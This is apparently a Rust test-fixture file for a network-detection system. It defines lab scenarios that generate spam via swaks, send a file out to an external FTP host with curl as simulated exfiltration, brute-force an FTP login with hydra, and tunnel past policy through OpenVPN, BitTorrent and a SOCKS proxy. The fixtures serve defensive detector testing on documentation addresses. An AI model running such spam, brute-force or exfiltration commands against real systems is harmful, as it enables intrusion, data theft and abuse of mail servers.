//! Tools that use services as they should not be used.

use super::super::Side::{Inside, Outside};
use super::{ATTACKER, Expect, Recording, SERVER};

pub(super) fn all() -> Vec<Recording> {
    [mail_and_logs(), files(), around_the_proxy()].into_iter().flatten().collect()
}

fn mail_and_logs() -> Vec<Recording> {
    vec![
        Recording {
            name: "spam.burst/positive-recorded-swaks",
            about: "swaks sends mail of five senders' domains straight to fourteen mail servers outside.",
            expect: vec![Expect::of("spam.burst", Some(SERVER), None)],
            servers: &[(
                Outside,
                "for i in $(seq 101 114); do ip addr add 203.0.113.$i/24 dev sk-out; done; \
                 exec aiosmtpd -n -l 0.0.0.0:25 -c aiosmtpd.handlers.Sink",
            )],
            acts: &[(
                Inside,
                "sleep 3; for i in $(seq 101 114); do swaks --silent 2 -n --server 203.0.113.$i --helo pc.city.example \
                 --from offer$i@shop$((i % 5)).example --to someone$i@mail$i.example --header 'Subject: winner' \
                 --body 'You won.'; done",
            )],
        },
        Recording {
            name: "endpoint.alert/positive-recorded-logger",
            about: "logger sends an alert in CEF and one in plain words among ordinary lines.",
            expect: vec![Expect::of("endpoint.alert", Some(SERVER), None)],
            servers: &[(Outside, "exec nc -u -k -l 203.0.113.66 514")],
            acts: &[(
                Inside,
                "say() { logger -n 203.0.113.66 -d -P 514 \"$@\"; }; \
                 for i in $(seq 10); do say --rfc3164 -t CRON 'session opened for user backup'; done; \
                 say --rfc3164 -p auth.alert -t edr 'CEF:0|Example|EDR|4.2|1001|Malware detected|9|src=192.168.10.5 \
                 shost=PC-0105 fname=invoice.exe act=blocked cat=malware'; \
                 say -p auth.alert -t antivirus 'virus detected: Eicar-Test-Signature in /srv/files/eicar.com'",
            )],
        },
        Recording {
            name: "endpoint.alert/benign-recorded-logger",
            about: "logger sends ordinary lines of jobs, log-ins and firewalls.",
            expect: vec![],
            servers: &[(Outside, "exec nc -u -k -l 203.0.113.66 514")],
            acts: &[(
                Inside,
                "say() { logger -n 203.0.113.66 -d -P 514 -t \"$@\"; }; for i in $(seq 10); do \
                 say CRON 'session opened for user backup'; say kernel 'blocked 198.51.100.9 by policy 14'; \
                 say sshd 'Failed password for clerk from 192.168.10.21 port 50122'; \
                 say antivirus 'scheduled scan finished, nothing found'; done",
            )],
        },
    ]
}

fn files() -> Vec<Recording> {
    vec![
        Recording {
            name: "exfil.volume/positive-recorded-curl-ftp",
            about: "curl stores a file on an FTP server outside.",
            expect: vec![Expect::of("exfil.volume", Some(SERVER), Some(ATTACKER))],
            servers: &[(
                Outside,
                "mkdir -p public; exec /usr/bin/python3 -m pyftpdlib -w -i 203.0.113.66 -p 21 -d $PWD/public",
            )],
            acts: &[(
                Inside,
                "sleep 2; head -c 60000 /dev/urandom >residents.csv; curl -s -T residents.csv ftp://203.0.113.66/",
            )],
        },
        Recording {
            name: "bruteforce.login/positive-recorded-hydra-ftp",
            about: "hydra tries thirty wrong passwords on vsftpd.",
            expect: vec![Expect::of("bruteforce.login", Some(ATTACKER), Some(SERVER))],
            servers: &[(
                Inside,
                r"mkdir -p empty; printf 'listen=YES\nlocal_enable=YES\nanonymous_enable=NO\nsecure_chroot_dir=%s/empty\n' \
                $PWD >vsftpd.conf; printf 'seccomp_sandbox=NO\nisolate=NO\nisolate_network=NO\n' >>vsftpd.conf; \
                exec vsftpd $PWD/vsftpd.conf -obackground=NO",
            )],
            acts: &[(
                Outside,
                "seq -f guess%03g 30 >passwords; timeout 90 hydra -I -l nobody -P passwords -t 4 ftp://192.168.10.5 || true",
            )],
        },
    ]
}

fn around_the_proxy() -> Vec<Recording> {
    vec![
        Recording {
            name: "policy.use/positive-recorded-openvpn",
            about: "openvpn makes a tunnel to an address outside, and ping goes through it.",
            expect: vec![Expect::of("policy.use", Some(SERVER), None)],
            servers: &[(Outside, VPN), (Inside, VPN_CLIENT)],
            acts: &[(Inside, "sleep 6; ping -c 20 -i 0.2 172.30.9.1")],
        },
        Recording {
            name: "policy.use/positive-recorded-aria2c-torrent",
            about: "aria2c fetches a file by BitTorrent from a peer outside.",
            expect: vec![Expect::of("policy.use", Some(SERVER), None)],
            servers: &[(Outside, TRACKER), (Outside, PEER)],
            acts: &[(
                Inside,
                "sleep 5; timeout 60 aria2c -q -d got --seed-time=0 --enable-dht=false --listen-port=6882 f.torrent; \
                 cmp got/f.bin seed/f.bin",
            )],
        },
        Recording {
            name: "policy.use/positive-recorded-microsocks",
            about: "curl reads pages through a SOCKS proxy outside (microsocks).",
            expect: vec![Expect::of("policy.use", Some(SERVER), None)],
            servers: &[(Outside, "exec microsocks -i 203.0.113.66 -p 1080"), (Outside, super::WEB_OUTSIDE)],
            acts: &[(
                Inside,
                "sleep 5; for i in 1 2 3; do curl -s --socks5-hostname 203.0.113.66:1080 http://203.0.113.66/; done",
            )],
        },
    ]
}

const VPN: &str = "for n in s c; do openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 9 \
    -subj /CN=$n -keyout $n.key -out $n.crt; openssl x509 -in $n.crt -noout -fingerprint -sha256 | cut -d= -f2 >$n.fp; done; \
    touch ready; exec openvpn --dev tun9 --local 203.0.113.66 --tls-server --dh none \
    --ifconfig 172.30.9.1 172.30.9.2 --cert s.crt --key s.key --peer-fingerprint $(cat c.fp)";
const VPN_CLIENT: &str = "for i in $(seq 50); do [ -e ready ] && break; sleep 0.2; done; \
    exec openvpn --dev tun8 --remote 203.0.113.66 --tls-client --nobind \
    --ifconfig 172.30.9.2 172.30.9.1 --cert c.crt --key c.key --peer-fingerprint $(cat s.fp)";
/// A torrent of one file, and a tracker that knows one peer.
const TRACKER: &str = r#"mkdir -p seed; head -c 60000 /dev/urandom >seed/f.bin; exec /usr/bin/python3 -c '
import hashlib, http.server
data = open("seed/f.bin", "rb").read()
pieces = b"".join(hashlib.sha1(data[i:i + 16384]).digest() for i in range(0, len(data), 16384))
info = b"d6:lengthi60000e4:name5:f.bin12:piece lengthi16384e6:pieces%d:%se" % (len(pieces), pieces)
url = b"http://203.0.113.66:6969/announce"
open("f.torrent", "wb").write(b"d8:announce%d:%s4:info%se" % (len(url), url, info))
class Tracker(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"d8:intervali60e5:peers6:" + bytes([203, 0, 113, 66, 0x1a, 0xe1]) + b"e")
http.server.ThreadingHTTPServer(("203.0.113.66", 6969), Tracker).serve_forever()'"#;
const PEER: &str = "sleep 2; exec aria2c -q -V -d seed --seed-ratio=0 --listen-port=6881 --enable-dht=false \
    --bt-seed-unverified f.torrent";
